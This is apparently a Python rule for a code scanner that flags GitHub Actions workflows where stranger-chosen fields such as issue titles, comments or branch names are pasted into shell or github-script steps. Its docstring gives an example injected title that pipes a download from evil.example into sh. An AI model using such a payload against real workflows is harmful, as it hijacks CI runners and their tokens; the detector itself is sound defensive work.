"""A title, a comment or a branch name that a stranger has chosen becomes part of a script.

The runner fills it in before the shell reads it: an issue called `"; curl evil.example | sh #` runs there,
with the workflow's token.
"""

import re
from collections.abc import Iterator
from typing import Any

from scanner import shapes
from scanner.lazily import regex
from scanner.rule import Confidence, FileRule, Finding, Severity, Source, on_file
from scanner.source import Keys

FILLED_IN = regex(r"\$\{\{([^}]{0,300})\}\}")
# What a stranger chooses, and what starts a workflow with it and with more rights than a fork has. Under
# `pull_request`, a stranger's code runs anyhow, without secrets.
BY_PULL_REQUEST = frozenset(["pull_request_target"])
CHOSEN = {
    r"github\.head_ref|github\.event\.pull_request\.(?:title|body|head\.(?:ref|label))": BY_PULL_REQUEST,
    r"github\.event\.issue\.(?:title|body)": frozenset(["issues", "issue_comment"]),
    r"github\.event\.comment\.body": frozenset(["issue_comment", "discussion_comment"]),
    r"github\.event\.discussion\.(?:title|body)": frozenset(["discussion", "discussion_comment"]),
    r"github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.message)": frozenset(
        ["workflow_run"]
    ),
    r"github\.event\.(?:head_commit|commits\[\d+\])\.(?:message|author\.(?:name|email))": frozenset(["push"]),
}
SAFE = regex(r"toJSON\s*\(|contains\s*\(|startsWith\s*\(|endsWith\s*\(|hashFiles|[=!]=", re.I)


class WorkflowScriptInjection(FileRule):
    message = "`{value}` is written by a stranger, and becomes part of a script"
    why = "The expression looks like a variable; it is text that is put into the script before it runs."
    instead = 'Hand it over in `env:`, and use it as `"$TITLE"`.'
    severity, confidence, family = Severity.HIGH, Confidence.HIGH, "security"
    cwe = (78, 94)
    evidence = ("P",)
    security_severity = "8.1"
    languages = ("yaml",)
    paths = shapes.WORKFLOWS
    roles = ("live",)
    preview = True

    @on_file
    def check(self, source: Source) -> Iterator[Finding]:
        document = source.document
        if not isinstance(document, dict) or "github." not in source.text:
            return
        started = shapes.triggers(document)
        for keys, script in _scripts(document):
            value = next(
                (value for found in FILLED_IN.findall(script) if (value := _chosen(found, started))), ""
            )
            if value:
                yield self.at(source, source.place_of(keys), symbol=".".join(map(str, keys[:4])), value=value)


def _chosen(expression: str, started: set[str]) -> str:
    """What a stranger chooses of an expression; "" where it is nothing, or compared only."""
    if SAFE.search(expression):
        return ""
    for value, starts in CHOSEN.items():
        found = re.search(value, expression)
        if found and starts & started:
            return found[0]
    return ""


def _scripts(document: dict[Any, Any]) -> Iterator[tuple[Keys, str]]:
    """The text of every step that a shell or a script engine runs, with the way to it."""
    jobs = document.get("jobs")
    for job, body in jobs.items() if isinstance(jobs, dict) else ():
        steps = body.get("steps") if isinstance(body, dict) else None
        for number, step in enumerate(steps if isinstance(steps, list) else ()):
            if not isinstance(step, dict):
                continue
            way: Keys = ("jobs", str(job), "steps", number)
            if isinstance(step.get("run"), str):
                yield (*way, "run"), step["run"]
            given = step.get("with")
            script = given.get("script") if isinstance(given, dict) else None
            if isinstance(script, str) and "github-script" in str(step.get("uses")):
                yield (*way, "with", "script"), script
